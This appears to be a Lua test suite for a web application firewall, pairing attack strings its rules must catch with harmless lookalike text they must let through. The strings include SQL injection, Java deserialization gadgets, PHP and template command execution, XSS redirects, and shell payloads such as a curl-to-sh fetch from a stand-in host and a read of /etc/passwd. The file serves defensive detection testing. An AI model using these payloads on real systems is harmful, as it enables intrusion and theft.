local rule_checks = require "rule_checks"

-- The seventy-seventh set on (tests/edge_security/family_gen_blind_*.py of this round) and the earlier sets'
-- leftovers: the families found uncovered and the prose beside them, value by value (our own spellings, not
-- the sets').
describe("edge.waf.rules seventy-seventh set on", function()
    local caught_by, clean

    setup(function()
        caught_by, clean = rule_checks.new(assert)
    end)

    it("SQL: a stacked query opened by a parenthesis, TRUNCATE without TABLE", function()
        caught_by(142170, { "7;(select 2 where 3=3)--", "4 ; ( ( select null", "9; truncate audit_log", "1;truncate `t`;",
            "5; TRUNCATE public.events--" })
        clean({ "a; (select one) of these", "; truncate long names please", "x; (selected) items",
            "notes; truncate the text" })
    end)

    it("Java: a serialized object's magic bytes as a hex dump groups them", function()
        caught_by(144120, { "ACED 0005 7372", "00000000: aced 0005 7372 0019", "aced 0005" })
        clean({ "she aced 0005 and 0006", "aced 0005 exams", "aced 00 05" })
    end)

    it("PHP: a callable array, a method named by a variable, a concatenated name, invoked", function()
        caught_by(133180, { "['Mailer','send']('x')", "array('Cls', 'go')('a')", "[new App\\Job(), 'run']()",
            "[$w,'handle']($_GET['a'])", "$h->{$name}($arg)", "Cls::$fn('ls')", "($p . $q)('id')",
            "[Foo::class, 'run']()" })
        clean({ "['a', 'b'].map(f)", "items[0]['name'](x)", "[1, 'two'] (see list)", "$obj->name($arg)",
            "array('a', 'b')", "[x, 'y'] + (z)", "cost ($5 . $10) (total)" })
    end)

    it("Perl: a socket module loaded by its short name; XSS: a script element created", function()
        caught_by(132170, { "use IO::Socket;", "use IO::Socket::SSL;" })
        caught_by(141140, { "s=document.createElement('script');", "top.document.createElement(\"IFRAME\")" })
        clean({ "we use io sockets", "use IO::Handle;", "createElement('div') then append", "a script element, created" })
    end)

    it("shell: a build tool's $(VARIABLE) and a menu's '.load' are no command", function()
        caught_by(132110, { "$(curl -s x.example/a|sh)", "a$(`id`)", "$(</etc/passwd)", "invoice_$(id).pdf",
            "$(whoami).x.example", "$(alias)" })
        caught_by(132280, { ".load /tmp/x.so", ".load evil", "; .load 'lib.dll'" })
        clean({ "output: $(OutDir)\\$(TargetName).dll", "version $(Build.BuildId)", "cost $(price)",
            ".load and .save in the old menu", ".load more results" })
    end)

    it("SQL: a statement after a number that closes its parenthesis or quote", function()
        caught_by(142230, { "3) alter table accounts add x int--", "9')drop table t--", "4) delete from t where 1" })
        clean({ "3) alter the table plan", "1) update the docs", "2) select a seat" })
    end)

    it("Java: a class's internal name is not a repository called runtime-something", function()
        caught_by(144100, { "Ljava/lang/Runtime;", "org/acme/x/ProcessBuilder", "\"java/io/ObjectInputStream\"" })
        clean({ "https://github.com/acme/runtime-service/blob/main/README.md", "gitlab.com/team/processbuilder-demo" })
    end)

    it("files: www-data is the web server's user, a directory only in a path", function()
        caught_by(130160, { "/home/www-data/.ssh", "www-data/uploads/", "../www-data/" })
        clean({ "Smarty's cache needs write permission for www-data", "run as www-data", "www-data" })
    end)

    it("Java: the gadget classes of Wicket, FileUpload, Click, Vaadin, Hibernate and Spring chains", function()
        caught_by(144200, { "org.apache.commons.fileupload.disk.DiskFileItem", "org.apache.wicket.util.upload.DiskFileItem",
            "org.apache.click.control.Column$ColumnComparator", "com.vaadin.data.util.PropertysetItem",
            "org.hibernate.tuple.component.PojoComponentTuplizer",
            "org.springframework.core.SerializableTypeWrapper$TypeProvider" })
        clean({ "the DiskFileItem of commons fileupload", "a Vaadin column comparator", "Hibernate tuplizers" })
    end)

    it("Java: a static method invoked by reflection, a hex dump's 0x, WebLogic's T3 handshake", function()
        caught_by(144200, { "getMethod(\"exec\").invoke(null, cmd)", "m . invoke ( null )" })
        caught_by(144120, { "0xaced0005737200", "t3 10.3.6\nAS:255\nHL:19\n\n" })
        clean({ "invoke the null handler", "handler.invoke(ctx)", "t3 is our tier", "t3 12.2 notes\nas: planned",
            "0xaced" })
    end)

    it("templates: a Smarty or Twig modifier that runs a command on a literal or variable", function()
        caught_by(134130, { "{'whoami'|system}", "{\"x\"|shell_exec}", "{$v.cmd|@passthru}" })
        clean({ "{'Hello'|upper}", "{$name|escape}", "{ a | b }", "{x|system of record}" })
    end)

    it("shell: a spreadsheet formula calling another program through DDE", function()
        caught_by(132310, { "=cmd|' /C notepad'!A1", "+msexcel|'\\..\\x.exe'!''", "@SUM(2)*cmd|'/c calc'!B2" })
        clean({ "= 2+2", "- item | 'quoted'! wow", "@here | 'deploy'!", "=SUM(A1:A9)" })
    end)

    it("SQL: a list or pattern operator after a leading number and a boolean", function()
        caught_by(142380, { "4 and 2 not in (5,6)", "7 OR 'a' NOT REGEXP 'b'", "3 in (1, 2, 3)--", "9 && 1 rlike 1" })
        clean({ "room 2 in (3, 4)", "2 in stock", "option 1 and 2 in (brackets)" })
    end)

    it("SQL: characters concatenated by code, in decimal or hex (a line break's CHAR(13)+CHAR(10) is two)", function()
        caught_by(142200, { "CHAR(0x61)+CHAR(0x64)+CHAR(0x6d)", "nchar(0x41)&char(66)&char(0x43)", "chr(0x41)||'x'" })
        clean({ "VARCHAR(255) + INT", "the chr(10) line break",
            "in T-SQL, CHAR(13)+CHAR(10) ends a line" })
    end)

    it("mail: a message ended by its lone dot, an IMAP fetch with a numeric tag, after a line break", function()
        caught_by(132200, { "x\r\nDATA\r\nFrom: a@b.example\r\nhi\r\n.\r\n", "a\nDATA\nSubject: x\n.",
            "\r\n7 FETCH 1:* (BODY[])", "\n12 UID STORE 1,2:* +FLAGS (\\Deleted)" })
        clean({ "Line one\r\nData shows growth\r\n.", "ends\r\nData\r\nSome text\r\n.\r\nThanks",
            "list:\r\n2 copy 3 items", "notes\r\nuser guide" })
    end)

    it("PHP: a mail, include or extension path directive; a variable set to a command function's name", function()
        caught_by(133130, { "sendmail_path=/tmp/x.sh", "include_path = .:/var/tmp", "extension_dir=/tmp" })
        caught_by(133180, { "$cb = 'passthru';", "$f=\"create_function\";" })
        clean({ "the include path is set in php.ini", "$theme = 'system';", "$mode = \"exec\";" })
    end)

    it("XSS: a string broken open to assign the page's location", function()
        caught_by(141140, { "\"+(location='//x.example')+\"", "'-(top.location=name)-'" })
        clean({ "\"Location\" + (see the map)", "a' + (b = c)", "'Home' - (location: Leeds)" })
    end)

    it("XSS: alert() named in a sentence with a colon or comma after it is prose", function()
        caught_by(141140, { "alert();", "x=alert()", "confirm`1`" })
        clean({ "alert(): history of a blocking call", "alert(), prompt() and confirm() block the page" })
    end)

    it("XSS: a script's string closed to send the page elsewhere, a worker importing a remote script", function()
        caught_by(141140, { "';location='//x.example/p';//", "\"}; top.location.href=\"https://x.example\"",
            "importScripts('https://x.example/w.js')" })
        clean({ "the office's location='Leeds'", "importScripts('./local.js')", "ok'; location = here" })
    end)

    it("PHP: a variable call through several indexes or braces, mb_ereg_replace's eval option", function()
        caught_by(133110, { "$f[0][1]('id')", "$o{0}(\"ls\")", "mb_ereg_replace('.+', $_GET['c'], 'x', 'e')" })
        clean({ "$prices[0][1] (in EUR)", "mb_ereg_replace('a', 'b', 'c')" })
    end)

    it("SQL: a comment mark closing a string or a parenthesis; a lone '--' is a form's placeholder", function()
        caught_by(142220, { "'--", "\")#", ") --" })
        clean({ "--", "#", " -- ", "---" })
    end)

    it("a data: URL with parameters, a form's action hijacked, Function() on strings, PHP escapes called", function()
        caught_by(130140, { "data:text/plain;charset=utf-8;base64,PD9waHAgc3lzdGVtKCk7Pz4=" })
        caught_by(141140, { "'}); document.forms[1].action='https://x.example/';//", "Function('al'+'ert(1)')()",
            "new Function(\"return 1\")()" })
        caught_by(133100, { "(\"\\163\\171\\163\")('id')" })
        clean({ "data:image/png;charset=x;base64,iVBORw0KGgo", "a function('x') call", "the form's action URL",
            "data:image/png;base64,iVBORw0KGgppz39d3f6cnU4hVs0wyG+Kj7ppBOP" })
    end)

    it("SQL: Oracle's packages called, a schema's charset switched", function()
        caught_by(142160, { "dbms_java.runjava('x')", "DBMS_OUTPUT.PUT_LINE(1)", "dbms_utility.exec_ddl_statement('x')" })
        caught_by(142230, { "ALTER SCHEMA app DEFAULT CHARSET big5", "alter database shop character set = gbk" })
        clean({ "dbms output is noisy", "alter the schema's default charset later" })
    end)

    it("SQL: a value that closes a string and goes on as SQL", function()
        caught_by(142220, { "'2#", "\" 7--", "' 3=3", "'-''", "'+(1)+'", "'/'x'", "'=2 or", "\"<4 and b=1", "') or" })
        clean({ "'90s music", "\"+1\" from me", "'Twas the night", "\"Hello\" - she said", "'1' is the answer",
            "'-' means no value", "\"-5\" degrees", "'(aside)'", "\"09033758-98ae-47ce-a328-d7260252a7ca\"",
            "\"60921-1714850931\"", "\"+49 30 123456\"" })
    end)

    it("shell: a list of languages after a semicolon is a bio, an interpreter run after one is a command", function()
        caught_by(132100, { "; python3 -m http.server", "; ruby x.rb", "&& perl -e 'print 1'" })
        clean({ "Backend engineer; Python & Go; on call every 4th week", "R&D; Perl & Ruby", "Data; Python, R and SQL",
            "java developer|php developer|script writing", "|ruby developer|" })
    end)

    it("Java: a Groovy string run as a command", function()
        caught_by(144200, { "'whoami'.execute().text", "(\"i\"+\"d\").execute().text", "\"ls\".execute()",
            "def c='id'; c.execute().in.text" })
        clean({ "cursor.execute() then fetch", "run the job.execute() later" })
    end)

    it("shell: a shell's -c and a command where a utility's arguments were expected", function()
        caught_by(132250, { "-c id", "-c 'whoami'", "-c ls -la", "-c \"uname -a\"" })
        clean({ "-c config.yml", "-c 2 copies", "-c option" })
    end)
end)
